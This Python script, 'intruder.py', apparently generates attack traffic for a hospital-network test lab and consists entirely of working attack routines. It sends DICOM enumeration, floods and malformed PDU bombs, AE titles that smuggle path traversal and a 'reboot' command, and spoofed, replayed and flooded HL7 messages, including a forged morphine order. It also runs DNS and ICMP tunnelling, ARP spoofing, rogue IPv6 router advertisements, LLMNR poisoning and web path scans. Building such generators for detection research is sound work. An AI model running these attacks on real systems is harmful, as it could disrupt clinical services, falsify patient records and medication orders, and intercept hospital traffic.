"""What the intruder sends by hand. `intruder.py MODE ARGUMENT…`"""

import os
import random
import socket
import struct
import sys
import threading
import time
import warnings

warnings.filterwarnings("ignore")

from speakers import DIALECTS, Dialect, await_ack, connect, frame

chance = random.Random(7)


def item(kind, body):
    return struct.pack("!BBH", kind, 0, len(body)) + body


def pdu(kind, body, length=None):
    return struct.pack("!BBI", kind, 0, len(body) if length is None else length) + body


def associate(calling, called, classes=("1.2.840.10008.1.1",), extra=b""):
    body = struct.pack("!HH", 1, 0) + called.encode().ljust(16)[:16] + calling.encode().ljust(16)[:16] + bytes(32) + item(0x10, b"1.2.840.10008.3.1.1.1")
    for n, name in enumerate(classes):
        body += item(0x20, struct.pack("!BBBB", 2 * n + 1, 0, 0, 0) + item(0x30, name.encode()) + item(0x40, b"1.2.840.10008.1.2"))
    return pdu(1, body + item(0x50, item(0x51, struct.pack("!I", 32768)) + item(0x52, b"1.2.3.99") + extra))


def answer(s, seconds=2.0):
    s.settimeout(seconds)
    try:
        return s.recv(65536)
    except OSError:
        return b""


def attempt(host, port, *parts, wait=0.3):
    try:
        with connect(host, port) as s:
            for part in parts:
                s.sendall(part)
                answer(s, wait)
    except OSError as error:
        print(repr(error), file=sys.stderr)


def titles(host, port, count):
    names = ["PACS", "ORTHANC", "DCM4CHEE", "ARCHIVE", "VNA", "IMPAX", "SYNAPSE", "MAIN", "STORE", "QR_SCP", "DICOM1", "HOSPITAL", "RADIO", "SECTRA", "CHARRUAPACS"]
    for n in range(int(count)):
        attempt(host, port, associate(f"SCU{n}", names[n % len(names)] + ("" if n < len(names) else str(n))), pdu(7, bytes(4)))


def probe(*targets):
    many = [f"1.2.840.10008.5.1.4.1.1.{n}" for n in range(1, 110)]
    for host, port in zip(targets[::2], targets[1::2]):
        for _ in range(3):
            attempt(host, port, associate("PROBE", "ANY", many), pdu(7, bytes(4)))


def store_flood(host, port, calling, called, count):
    with connect(host, port) as s:
        sop = "1.2.840.10008.5.1.4.1.1.1"
        s.sendall(associate(calling, called, (sop,)))
        answer(s)
        for n in range(int(count)):
            uid = f"1.2.3.4.{n}.7".encode()
            uid += b"\0" * (len(uid) % 2)
            def e(g, el, value):
                return struct.pack("<HHI", g, el, len(value)) + value
            command = e(0, 2, sop.encode() + b"\0" * (len(sop) % 2)) + e(0, 0x100, b"\1\0") + e(0, 0x110, struct.pack("<H", n + 1)) + e(0, 0x700, b"\0\0") + e(0, 0x800, b"\0\0") + e(0, 0x1000, uid)
            command = e(0, 0, struct.pack("<I", len(command))) + command
            data = e(8, 0x16, sop.encode() + b"\0" * (len(sop) % 2)) + e(8, 0x18, uid) + e(8, 0x60, b"CR") + e(0x10, 0x20, b"FL%04d" % n) + e(0x20, 0xd, b"1.2.3.4.55\0\0"[:10]) + e(0x20, 0xe, b"1.2.3.4.56")
            for flags, part in ((3, command), (2, data)):
                s.sendall(pdu(4, struct.pack("!IBB", len(part) + 2, 1, flags) + part))
            answer(s, 1)
            time.sleep(0.01)
        s.sendall(pdu(5, bytes(4)))
        answer(s)


def hold(host, port, called, count, seconds):
    """Associations that are opened and then never used."""
    held = []
    for n in range(int(count)):
        try:
            s = connect(host, port)
            s.sendall(associate("READ2", called))
            answer(s, 0.5)
            held.append(s)
        except OSError:
            pass
    time.sleep(float(seconds))
    for s in held:
        s.close()


def pdu_bombs(host, port, called):
    for length in (0xFFFFFFF0, 0x40000000):
        attempt(host, port, pdu(1, os.urandom(900), length))
        attempt(host, port, associate("CT64", called), pdu(4, os.urandom(1200), length))
    attempt(host, port, os.urandom(3000))
    attempt(host, port, associate("CT64", called), pdu(4, struct.pack("!IBB", 70000, 1, 3) + bytes(50)))
    attempt(host, port, associate("CT64", called), pdu(0x3A, b"strange"))


def traversal(host, port):
    attempt(host, port, associate("../../etc/cron", "READ1"), pdu(5, bytes(4)))
    attempt(host, port, associate("A;reboot", "READ1"), pdu(5, bytes(4)))


# HL7

def talk(host, port, messages, pause=0.1):
    with connect(host, port) as s:
        for m in messages:
            s.sendall(frame(m))
            await_ack(s, 2)
            time.sleep(pause)


def hl7_spoof(host, port):
    fake = Dialect("ADTSYS", "STM", "HUB", "STM", version="2.4")
    talk(host, port, [fake.adt(e) for e in ("A40", "A03", "A08", "A40", "A11", "A03")])


def hl7_type(host, port):
    d = DIALECTS["bed2"]
    talk(host, port, [d.message("RDE^O11", d.pid(p), "ORC|NW|9", "RXE|^^^20260101|MORPHINE^morphine|100||mg") for p in __import__("patients").read()[:4]])


def hl7_replay(host, port):
    """Messages that were taken down, sent again later from elsewhere."""
    d = DIALECTS["lis"]
    old = [d.oru(control=f"REP{n}") for n in range(6)]
    talk(host, port, old)
    time.sleep(15)
    talk(host, port, old)


def hl7_flood(host, port, count):
    d = DIALECTS["gas1"]
    with connect(host, port) as s:
        threading.Thread(target=lambda: [None for _ in iter(lambda: answer(s, 20), b"")], daemon=True).start()
        for _ in range(int(count)):
            s.sendall(frame(d.oru()))
            time.sleep(0.012)
        time.sleep(1)


def hl7_giant(host, port):
    with connect(host, port) as s:
        s.sendall(b"\x0b" + DIALECTS["lis"].message("ORU^R01") + b"OBX|1|TX|||")
        for _ in range(600):
            s.sendall(b"A" * 40_000)
        answer(s, 1)


def hl7_slow(host, port, seconds):
    with connect(host, port) as s:
        s.sendall(b"\x0bMSH|^~\\&|")
        for _ in range(int(seconds)):
            s.sendall(b"A")
            time.sleep(1)


def hl7_queries(host, port, count):
    d = Dialect("WARDQ", "STM", "HUB", "STM")
    talk(host, port, [d.qbp() for _ in range(int(count))], pause=0.05)


def hl7_outside(host, port):
    talk(host, port, [DIALECTS["lis"].oru() for _ in range(8)])


# Everything around

def dns_tunnel(server, domain, count):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(0.4)
    for n in range(int(count)):
        labels = [os.urandom(22).hex() for _ in range(3)] + domain.split(".")
        name = b"".join(bytes([len(x)]) + x.encode() for x in labels) + b"\0"
        s.sendto(struct.pack("!HHHHHH", chance.randrange(65536), 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 16, 1), (server, 53))
        try:
            s.recv(4096)
        except OSError:
            pass
        time.sleep(0.1)


def icmp_tunnel(host, count):
    from scapy.all import IP, ICMP, Raw, send
    for n in range(int(count)):
        send(IP(dst=host) / ICMP(id=4321, seq=n) / Raw(os.urandom(chance.randrange(400, 1300))), verbose=False)
        time.sleep(0.03)


def arp_spoof(victim, gateway, seconds):
    from scapy.all import ARP, Ether, get_if_hwaddr, getmacbyip, sendp
    own, end = get_if_hwaddr("eth0"), time.time() + float(seconds)
    target = getmacbyip(victim) or "ff:ff:ff:ff:ff:ff"
    while time.time() < end:
        sendp(Ether(src=own, dst=target) / ARP(op=2, hwsrc=own, psrc=gateway, hwdst=target, pdst=victim), iface="eth0", verbose=False)
        sendp(Ether(src=own, dst="ff:ff:ff:ff:ff:ff") / ARP(op=2, hwsrc=own, psrc=victim, hwdst="ff:ff:ff:ff:ff:ff", pdst=gateway), iface="eth0", verbose=False)
        time.sleep(1)


def rogue_ra():
    from scapy.all import Ether, ICMPv6ND_RA, ICMPv6NDOptPrefixInfo, ICMPv6NDOptRDNSS, ICMPv6NDOptSrcLLAddr, IPv6, get_if_hwaddr, sendp
    own = get_if_hwaddr("eth0")
    link_local = "fe80::dea6:32ff:fe66:6666"
    for _ in range(8):
        sendp(Ether(src=own, dst="33:33:00:00:00:01") / IPv6(src=link_local, dst="ff02::1", hlim=255) / ICMPv6ND_RA(routerlifetime=1800) /
              ICMPv6NDOptPrefixInfo(prefix="fd66:6666::", prefixlen=64) / ICMPv6NDOptRDNSS(dns=[link_local], lifetime=600) / ICMPv6NDOptSrcLLAddr(lladdr=own), iface="eth0", verbose=False)
        time.sleep(2)


def llmnr(victim):
    """The victim asks for names that do not exist; the intruder says it is all of them."""
    from scapy.all import DNSQR, DNSRR, IP, UDP, Ether, LLMNRQuery, LLMNRResponse, get_if_hwaddr, sendp
    own = get_if_hwaddr("eth0")
    for n, name in enumerate(("fileserv", "printsrv", "wpad", "intranett", "archve")):
        sendp(Ether(src="3c:52:82:0f:00:03", dst="01:00:5e:00:00:fc") / IP(src=victim, dst="224.0.0.252", ttl=1) / UDP(sport=50000 + n, dport=5355) / LLMNRQuery(id=n, qd=DNSQR(qname=name)), iface="eth0", verbose=False)
        sendp(Ether(src=own, dst="3c:52:82:0f:00:03") / IP(src="172.20.24.166", dst=victim) / UDP(sport=5355, dport=50000 + n) /
              LLMNRResponse(id=n, qr=1, qd=DNSQR(qname=name), an=DNSRR(rrname=name, rdata="172.20.24.166")), iface="eth0", verbose=False)
        time.sleep(1)


def web_scan(host, port):
    for n in range(60):
        path = chance.choice(("/admin", "/.git/config", "/phpmyadmin/", "/backup.zip", "/cgi-bin/test", "/wp-login.php")) + f"?{n}" if n % 5 == 0 else f"/dir{n}/"
        attempt(host, port, f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n".encode(), wait=0.2)


def swap(address):
    os.system("ip link set eth0 down; ip link set eth0 address 8c:aa:b5:66:00:31; ip link set eth0 up; ip route replace default via 192.168.77.1")
    os.system(f"busybox arping -U -c 3 -I eth0 {address}")


MODES = {name.replace("_", "-"): value for name, value in globals().items() if callable(value) and getattr(value, "__module__", "") == "__main__"}

if __name__ == "__main__":
    MODES[sys.argv[1]](*sys.argv[2:])
